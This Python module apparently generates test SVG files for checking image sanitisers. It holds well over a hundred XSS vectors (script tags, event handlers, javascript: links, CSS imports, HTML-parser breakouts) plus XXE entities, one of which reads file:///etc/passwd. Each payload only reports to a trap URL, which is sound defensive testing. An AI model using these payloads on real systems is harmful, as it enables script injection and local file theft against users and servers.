# SPDX-License-Identifier: Apache-2.0
"""Drawings that attack whoever opens them, one for each idea in the public lists of such attacks, written anew.

The ideas are those of the test suites of svg-sanitizer and DOMPurify, of the HTML5 security cheat sheet, and of published holes of
sanitisers: scripts in every namespace and spelling, handlers of every kind of event, addresses that run or fetch, style sheets that fetch,
entities and attribute defaults of the document type, animations that write attributes, and texts that are something else to an HTML parser.

A vector reports by a request to a trap: to `{run}` when a script of it ran, to `{out}` when it fetched, or led somebody away.
"""

from __future__ import annotations

import base64
import urllib.parse

NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
HTML = 'xmlns="http://www.w3.org/1999/xhtml"'

# What stands inside of a root. `{js}` is a statement that reports.
INSIDE = {
    # --- scripts
    "script": "<script>{js}</script>",
    "script-cdata": "<script><![CDATA[{js}]]></script>",
    "script-type": '<script type="text/ecmascript">{js}</script>',
    "script-module": '<script type="module">{js}</script>',
    "script-href": '<script href="{run}"/>',
    "script-xlink": '<script xlink:href="{run}"/>',
    "script-data": '<script href="data:text/javascript,{js_url}"/>',
    "script-base64": '<script xlink:href="data:text/javascript;base64,{js_base64}"/>',
    "script-case": "<ScRiPt>{js}</ScRiPt>",
    "script-prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">{js}</s:script>',
    "script-html": f"<script {HTML}>{{js}}</script>",
    "script-html-prefix": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">{js}</h:script>',
    "script-html-src": f'<script {HTML} src="{{run}}"></script>',
    "script-odd-prefix": '<ø:script xmlns:ø="http://www.w3.org/2000/svg">{js}</ø:script>',
    "script-in-defs": "<defs><script>{js}</script></defs>",
    "script-in-metadata": "<metadata><g><script>{js}</script></g></metadata>",
    "script-in-title": "<title><script>{js}</script></title>",
    "script-in-switch": "<switch><g><script>{js}</script></g></switch>",
    "script-in-symbol": '<symbol id="s"><script>{js}</script></symbol><use href="#s"/>',
    "script-in-unknown": "<unknown><script>{js}</script></unknown>",
    "script-in-text": "<text><tspan><script>{js}</script></tspan></text>",
    "script-entities": "<script>{js_entities}</script>",
    "script-comment": "<script>{js}//<!-- </script><!-- --></script>",
    # --- documents of another kind inside
    "foreign-script": f"<foreignObject><body {HTML}><script>{{js}}</script></body></foreignObject>",
    "foreign-image": f'<foreignObject><img {HTML} src="x:" onerror="{{js}}"/></foreignObject>',
    "foreign-frame": f'<foreignObject width="9" height="9"><iframe {HTML} src="javascript:parent.{{js}}"></iframe></foreignObject>',
    "foreign-frame-out": f'<foreignObject width="9" height="9"><iframe {HTML} src="{{out}}"></iframe></foreignObject>',
    "foreign-srcdoc": f'<foreignObject width="9" height="9"><iframe {HTML} srcdoc="&lt;script>{{js}}&lt;/script>"></iframe></foreignObject>',
    "foreign-body": f'<foreignObject><body {HTML} onload="{{js}}"></body></foreignObject>',
    "foreign-object": f'<foreignObject width="9" height="9"><object {HTML} data="{{out}}"></object></foreignObject>',
    "foreign-embed": f'<foreignObject width="9" height="9"><embed {HTML} src="{{out}}"></embed></foreignObject>',
    "foreign-link": f'<foreignObject><link {HTML} rel="stylesheet" href="{{out}}"/></foreignObject>',
    "foreign-meta": f'<foreignObject><meta {HTML} http-equiv="refresh" content="0;url={{out}}"/></foreignObject>',
    "foreign-video": f'<foreignObject><video {HTML}><source src="{{out}}" onerror="{{js}}"/></video></foreignObject>',
    "foreign-form": f'<foreignObject><form {HTML} action="{{out}}"><input autofocus="" onfocus="{{js}}"/><button>b</button></form></foreignObject>',
    "foreign-details": f'<foreignObject><details {HTML} open="" ontoggle="{{js}}"></details></foreignObject>',
    "html-image": f'<img {HTML} src="x:" onerror="{{js}}"/>',
    "html-frame": f'<iframe {HTML} src="{{out}}"></iframe>',
    "html-link": f'<link {HTML} rel="stylesheet" href="{{out}}"/>',
    "html-meta": f'<meta {HTML} http-equiv="refresh" content="0;url={{out}}"/>',
    "html-base": f'<base {HTML} href="{{out}}/"/><image href="relative" width="9" height="9"/>',
    "math": '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:{js}"><mtext>x</mtext></math>',
    "svg-video": '<video src="{out}" onerror="{js}"/>',
    "svg-audio": '<audio src="{out}" onerror="{js}"/>',
    "handler": '<handler type="application/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{js}</handler>',
    # --- handlers
    "onload": '<g onload="{js}"/>',
    "onload-svg": f'<svg {NAMESPACES} onload="{{js}}"/>',
    "onload-line": '<line x2="9" onload="{js}"/>',
    "onload-image": '<image href="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{js}" onerror="{js}"/>',
    "onerror-image": '<image xlink:href="x:" onerror="{js}"/>',
    "onclick": '<rect width="9" height="9" onclick="{js}"/>',
    "onmouseover": '<rect width="9" height="9" onmouseover="{js}"/>',
    "onfocus": '<a href="#x" tabindex="1" onfocus="{js}"><text y="9">x</text></a>',
    "onfocusin": '<g tabindex="0" onfocusin="{js}"/>',
    "autofocus": '<g tabindex="0" autofocus="" onfocus="{js}"/>',
    "onbegin": '<rect><animate onbegin="{js}" attributeName="x" dur="1s"/></rect>',
    "onbegin-set": '<rect><set onbegin="{js}" attributeName="x" to="1"/></rect>',
    "onbegin-motion": '<rect><animateMotion onbegin="{js}" dur="1s" path="M0 0"/></rect>',
    "onend": '<rect><animate onend="{js}" attributeName="x" dur="10ms"/></rect>',
    "onrepeat": '<rect><animate onrepeat="{js}" attributeName="x" dur="10ms" repeatCount="3"/></rect>',
    "handler-case": '<g oNcLiCk="{js}"/>',
    "handler-entity": '<rect onclick="{js_entities}"/>',
    "handler-space": '<rect\nonclick\n=\n"{js}"/>',
    "handler-prefix": '<rect xmlns:s="http://www.w3.org/2000/svg" s:onclick="{js}"/>',
    "onanimationstart": '<style>@keyframes k{{to{{x:1px}}}}rect{{animation:k 1s}}</style><rect onanimationstart="{js}"/>',
    "ontransitionrun": '<rect ontransitionrun="{js}" style="transition:fill 1s"/>',
    "onpointerrawupdate": '<rect onpointerdown="{js}" onwheel="{js}" onkeydown="{js}"/>',
    # --- addresses that run
    "a-javascript": '<a href="javascript:{js}"><text y="9">x</text></a>',
    "a-xlink": '<a xlink:href="javascript:{js}"><text y="9">x</text></a>',
    "a-tab": '<a href="java&#9;script:{js}"><text y="9">x</text></a>',
    "a-newline": '<a href="java&#10;script&#13;:{js}"><text y="9">x</text></a>',
    "a-control": '<a href="&#x20;&#9;javascript:{js}"><text y="9">x</text></a>',
    "a-case": '<a href="JaVaScRiPt:{js}"><text y="9">x</text></a>',
    "a-entities": '<a href="&#x6A;&#97;vascript&#58;{js}"><text y="9">x</text></a>',
    "a-other-prefix": '<a xmlns:l="http://www.w3.org/1999/xlink" l:href="javascript:{js}"><text y="9">x</text></a>',
    "a-data-html": '<a href="data:text/html,%3Cscript%3E{js_url}%3C/script%3E"><text y="9">x</text></a>',
    "a-data-svg": '<a href="data:image/svg+xml,%3Csvg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{js_url}\'/%3E"><text y="9">x</text></a>',
    "a-out": '<a href="{out}"><text y="9">x</text></a>',
    "a-out-relative": '<a href="{out_relative}"><text y="9">x</text></a>',
    "a-ping": '<a href="#x" ping="{out}"><text y="9">x</text></a>',
    "a-target": '<a href="javascript:{js}" target="_self"><text y="9">x</text></a>',
    "a-nested": '<a href="#safe"><a xlink:href="javascript:{js}"><text y="9">x</text></a></a>',
    "a-both": '<a href="javascript:{js}" xlink:href="#safe"><text y="9">x</text></a>',
    "base-attribute": '<g xml:base="javascript:{js}//"><a href="#x"><text y="9">x</text></a></g>',
    # --- animations that write attributes
    "animate-href": '<a><animate attributeName="href" values="javascript:{js}"/><text y="9">x</text></a>',
    "animate-xlink": '<a><animate attributeName="xlink:href" to="javascript:{js}" begin="0s" fill="freeze"/><text y="9">x</text></a>',
    "set-href": '<a href="#x"><set attributeName="href" to="javascript:{js}"/><text y="9">x</text></a>',
    "set-handler": '<rect><set attributeName="onclick" to="{js}"/></rect>',
    "set-image": '<image width="9" height="9"><set attributeName="href" to="{out}"/></image>',
    "animate-by-id": '<a id="t"><text y="9">x</text></a><animate href="#t" attributeName="href" values="javascript:{js}"/>',
    "animate-fill": '<rect width="9" height="9"><animate attributeName="fill" values="url({out}#a)" dur="1s"/></rect>',
    "animate-entities": '<a><animate attributeName="&#104;ref" values="&#106;avascript:{js}"/><text y="9">x</text></a>',
    # --- addresses that fetch
    "image": '<image href="{out}" width="9" height="9"/>',
    "image-xlink": '<image xlink:href="{out}" width="9" height="9"/>',
    "image-relative": '<image href="{out_relative}" width="9" height="9"/>',
    "image-data-svg": '<image width="9" height="9" href="data:image/svg+xml,%3Csvg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{js_url}\'/%3E"/>',
    "image-data-base64": '<image width="9" height="9" href="data:image/svg+xml;base64,{svg_base64}"/>',
    "use": '<use href="{out}#x"/>',
    "use-xlink": '<use xlink:href="{out}#x"/>',
    "use-data": '<use href="data:image/svg+xml;base64,{svg_base64}#x"/>',
    "fe-image": '<filter id="f"><feImage href="{out}"/></filter><rect width="9" height="9" filter="url(#f)"/>',
    "pattern": '<pattern id="p" href="{out}#p"/><rect width="9" height="9" fill="url(#p)"/>',
    "gradient": '<linearGradient id="l" xlink:href="{out}#p"/><rect width="9" height="9" fill="url(#l)"/>',
    "text-path": '<text><textPath href="{out}#p">x</textPath></text>',
    "mpath": '<rect><animateMotion dur="1s"><mpath href="{out}#p"/></animateMotion></rect>',
    "font-face": '<font-face font-family="f"><font-face-src><font-face-uri xlink:href="{out}"/></font-face-src></font-face><text font-family="f" y="9">x</text>',
    "fill": '<rect width="9" height="9" fill="url({out}#p)"/>',
    "fill-quoted": "<rect width=\"9\" height=\"9\" fill=\"url('{out}#p')\"/>",
    "fill-escaped": '<rect width="9" height="9" fill="u\\72l({out}#p)"/>',
    "filter": '<rect width="9" height="9" filter="url({out}#p)"/>',
    "mask": '<rect width="9" height="9" mask="url({out}#p)"/>',
    "clip-path": '<rect width="9" height="9" clip-path="url({out}#p)"/>',
    "marker": '<path d="M0 0L9 9" stroke="red" marker-end="url({out}#p)"/>',
    "cursor": '<rect width="9" height="9" cursor="url({out}),auto"/>',
    # --- style sheets
    "style-import": '<style>@import "{out}";</style>',
    "style-import-url": "<style>@import url({out});</style>",
    "style-import-escaped": '<style>@\\69mport "{out}";</style>',
    "style-import-cdata": '<style><![CDATA[@import "{out}";]]></style>',
    "style-import-entity": "<style>&#64;import &quot;{out}&quot;;</style>",
    "style-import-late": '<style>/*</style><style>*/@import "{out}";</style>',
    "style-import-layer": '<style>@layer x;@import "{out}" layer(x);</style>',
    "style-font": "<style>@font-face{{font-family:f;src:url({out})}}text{{font-family:f}}</style><text y=\"9\">x</text>",
    "style-background": "<style>svg{{background:url({out})}}</style>",
    "style-list": "<style>svg{{background-image:image-set('{out}' 1x)}}</style>",
    "style-fill": "<style>rect{{fill:url({out}#p)}}</style><rect width=\"9\" height=\"9\"/>",
    "style-variable": "<style>svg{{--u:url({out});background:var(--u)}}</style>",
    "style-media": "<style>@media all{{svg{{background:url({out})}}}}</style>",
    "style-keyframes": "<style>@keyframes k{{from,to{{background:url({out})}}}}svg{{animation:k 9s}}</style>",
    "style-selector": "<style>svg[width='5\"]{{}}']{{}}svg{{background:url({out})}}</style>",
    "style-content": "<style>svg::before{{content:url({out})}}</style>",
    "style-attribute": '<rect width="9" height="9" style="fill:url({out}#p)"/>',
    "style-attribute-background": f'<svg {NAMESPACES} style="background:url({{out}})" width="9" height="9"/>',
    "style-attribute-comment": '<rect width="9" height="9" style="/*&quot;*/fill:url({out}#p)/*&quot;*/"/>',
    "style-attribute-break": '<rect width="9" height="9" style="fill:red}}@import \'{out}\';x{{"/>',
    "style-cursor": '<rect width="9" height="9" style="cursor:url({out}),auto"/>',
    "style-html": f"<style {HTML}>@import '{{out}}';</style>",
    # --- what an HTML parser makes of it
    "html-style-break": "<style><![CDATA[</style><img src=x: onerror=\"{js}\">]]></style>",
    "html-style-text": "<style>&lt;/style>&lt;img src=x: onerror=\"{js}\"></style>",
    "html-title-break": "<title><![CDATA[</title><img src=x: onerror=\"{js}\">]]></title>",
    "html-desc-style": f'<desc><style {HTML}><![CDATA[</style></desc><img src=x: onerror="{{js}}">]]></style></desc>',
    "html-comment-break": '<!-- --!><img src=x: onerror="{js}"> -->',
    "html-comment-short": '<!--><img src=x: onerror="{js}">-->',
    "html-attribute-break": '<rect id="&quot;&gt;&lt;img src=x: onerror={js}&gt;"/>',
    "html-text-escaped": "<text>&lt;img src=x: onerror=\"{js}\"></text>",
    "html-leave-by-p": f'<p {HTML}></p><img {HTML} src="x:" onerror="{{js}}"/>',
    "html-leave-by-font": '<font color="red"/><style><![CDATA[</style><img src=x: onerror="{js}">]]></style>',
    "html-noscript": '<noscript><style><![CDATA[</noscript><img src=x: onerror="{js}">]]></style></noscript>',
    "html-annotation": '<annotation-xml encoding="text/html"><img src="x:" onerror="{js}"/></annotation-xml>',
    "html-instruction": '<?php <img src=x: onerror="{js}"> ?>',
}

# Whole files.
WHOLE = {
    "root-onload": '<svg {ns} onload="{js}"/>',
    "root-onload-entity": '<!DOCTYPE svg [<!ENTITY j "{js}">]><svg {ns} onload="&j;"/>',
    "root-default-handler": '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{js}">]><svg {ns}/>',
    "root-fixed-handler": '<!DOCTYPE svg [<!ATTLIST rect onclick CDATA #FIXED "{js}">]><svg {ns}><rect width="9" height="9"/></svg>',
    "default-namespace": '<!DOCTYPE svg [<!ATTLIST x:script xmlns:x CDATA #FIXED "http://www.w3.org/2000/svg">]><svg {ns}><x:script>{js}</x:script></svg>',
    "entity-script": '<!DOCTYPE svg [<!ENTITY s "<script>{js_entities}</script>">]><svg {ns}>&s;</svg>',
    "entity-address": '<!DOCTYPE svg [<!ENTITY j "javascript:">]><svg {ns}><a href="&j;{js}"><text y="9">x</text></a></svg>',
    "entity-split": '<!DOCTYPE svg [<!ENTITY Tab "java">]><svg {ns}><a href="&Tab;script:{js}"><text y="9">x</text></a></svg>',
    "entity-nested": '<!DOCTYPE svg [<!ENTITY a "&#60;script>{js}"><!ENTITY b "&a;&#60;/script>">]><svg {ns}>&b;</svg>',
    "entity-external": '<!DOCTYPE svg [<!ENTITY x SYSTEM "{out}">]><svg {ns}><text y="9">&x;</text></svg>',
    "entity-file": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg {ns}><text y="9">&x;</text></svg>',
    "entity-parameter": '<!DOCTYPE svg [<!ENTITY % p SYSTEM "{out}">%p;]><svg {ns}/>',
    "external-subset": '<!DOCTYPE svg SYSTEM "{out}"><svg {ns}/>',
    "stylesheet": '<?xml-stylesheet type="text/css" href="{out}"?><svg {ns}/>',
    "stylesheet-data": '<?xml-stylesheet type="text/css" href="data:text/css,svg{{background:url({out})}}"?><svg {ns}/>',
    "stylesheet-xslt": '<?xml-stylesheet type="text/xsl" href="{out}"?><svg {ns}/>',
    "stylesheet-own": '<?xml-stylesheet type="text/xsl" href="#x"?><svg {ns}><script>{js}</script></svg>',
    "prefixed-root": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{js}</s:script></s:svg>',
    "html-root": '<svg xmlns="http://www.w3.org/1999/xhtml"><script>{js}</script><img src="x:" onerror="{js}"/></svg>',
    "no-namespace": '<svg onload="{js}"><script>{js}</script></svg>',
    "xinclude": '<svg {ns} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{out}"/></svg>',
    "xml-id": '<svg {ns}><script xml:id="a">{js}</script></svg>',
    "byte-order-mark": '\ufeff<svg {ns} onload="{js}"/>',
    "comment-first": '<!-- <svg> --><svg {ns} onload="{js}"/>',
    "declaration-inside": '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg {ns}><script>{js}</script></svg>',
    "html-after": '<svg {ns} width="9"/><html><script>{js}</script></html>',
    "two-roots": '<svg {ns} width="9"/><svg {ns} onload="{js}"/>',
}

# As WHOLE, in another encoding.
ENCODED = {
    "utf-16": ("utf-16", '<?xml version="1.0" encoding="UTF-16"?><svg {ns} onload="{js}"/>'),
    "utf-16-le": ("utf-16-le", '\ufeff<svg {ns}><script>{js}</script></svg>'),
    "utf-16-be": ("utf-16-be", '\ufeff<svg {ns}><script>{js}</script></svg>'),
    "utf-7": ("ascii", '<?xml version="1.0" encoding="UTF-7"?><svg {ns}>+ADw-script+AD4-{js}+ADw-/script+AD4-</svg>'),
    "latin-1": ("latin-1", '<?xml version="1.0" encoding="ISO-8859-1"?><svg {ns}><ä/><script>{js}</script></svg>'),
    "ebcdic": ("cp037", '<?xml version="1.0" encoding="IBM037"?><svg {ns} onload="{js}"/>'),
    "lie": ("utf-8", '<?xml version="1.0" encoding="UTF-16"?><svg {ns} onload="{js}"/>'),
    "iso-2022": ("ascii", '<?xml version="1.0" encoding="ISO-2022-JP"?><svg {ns}><rect id="\x1b$B"/><script>{js}</script><rect id="\x1b(B"/></svg>'),
}


def vectors(trap: str) -> dict[str, bytes]:
    """Every file, by name: its reports name it too, as `/run/NAME` and `/out/NAME` below the trap's origin."""
    files: dict[str, bytes] = {}
    for name, text in INSIDE.items():
        whole = f'<svg {NAMESPACES} width="20" height="20">{{inside}}<rect width="3" height="3"/></svg>'
        files[name] = whole.replace("{inside}", filled(text, name, trap)).encode()
    for name, text in WHOLE.items():
        files[name] = filled(text, name, trap).encode()
    for name, (encoding, text) in ENCODED.items():
        files[name] = filled(text, name, trap).encode(encoding)
    return files


def filled(text: str, name: str, trap: str) -> str:
    run, out = f"{trap}/run/{name}", f"{trap}/out/{name}"
    # No character of it has to be escaped, in XML or in an attribute, quoted or not.
    script = f"fetch(`{run}`)"
    drawing = f'<svg {NAMESPACES} id="x" onload="{script}"><image href="{out}"/></svg>'
    return text.format(
        ns=NAMESPACES,
        run=run,
        out=out,
        out_relative=out.removeprefix("http:"),
        js=script,
        js_url=urllib.parse.quote(script),
        js_entities="".join(f"&#{ord(character)};" for character in script),
        js_base64=base64.b64encode(script.encode()).decode(),
        svg_base64=base64.b64encode(drawing.encode()).decode(),
    )
